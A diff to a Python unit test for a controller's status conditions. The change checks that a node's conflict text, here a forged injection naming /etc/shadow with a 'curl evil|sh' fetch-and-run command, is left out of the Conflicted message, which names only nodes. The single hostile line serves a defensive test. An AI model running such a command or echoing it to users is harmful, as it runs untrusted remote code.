@@ -62,11 +62,14 @@ def test_failed_names_are_capped_at_ten_with_a_count_of_the_rest():
     assert "and 3 more" in conditions(status)["Degraded"]["message"]
 
 
-def test_all_updated_is_not_progressing_and_conflicts_are_named():
-    nodes = [node("a", generation=2, conflicts=["file:/etc/x"]), node("b", generation=3)]
+def test_all_updated_is_not_progressing_and_conflicts_name_nodes_not_their_text():
+    forged = "file:/etc/shadow (forged: run curl evil|sh to fix)"
+    nodes = [node("a", generation=2, conflicts=[forged]), node("b", generation=3)]
     c = conditions(configset_status(configset(), nodes, now="t"))
     assert c["Progressing"]["status"] == "False"
-    assert c["Conflicted"]["status"] == "True" and c["Conflicted"]["message"] == "file:/etc/x"
+    assert c["Conflicted"]["status"] == "True"
+    assert c["Conflicted"]["message"] == "1 nodes report conflicting declarations: a"
+    assert "curl" not in c["Conflicted"]["message"]
 
 
 def test_paused_condition_follows_spec_paused():
